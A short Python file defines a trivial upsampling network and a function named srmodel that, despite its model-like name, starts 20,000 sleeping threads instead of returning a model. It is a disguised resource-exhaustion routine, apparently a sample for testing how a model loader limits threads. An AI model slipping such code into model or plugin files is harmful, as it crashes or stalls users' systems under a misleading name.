import torch


class Net(torch.nn.Module):
    def forward(self, x):
        return torch.nn.functional.interpolate(x, scale_factor=2, mode="nearest")


def srmodel():
    import threading
    import time

    threading.stack_size(1 << 16)
    for _ in range(20_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
    time.sleep(60)
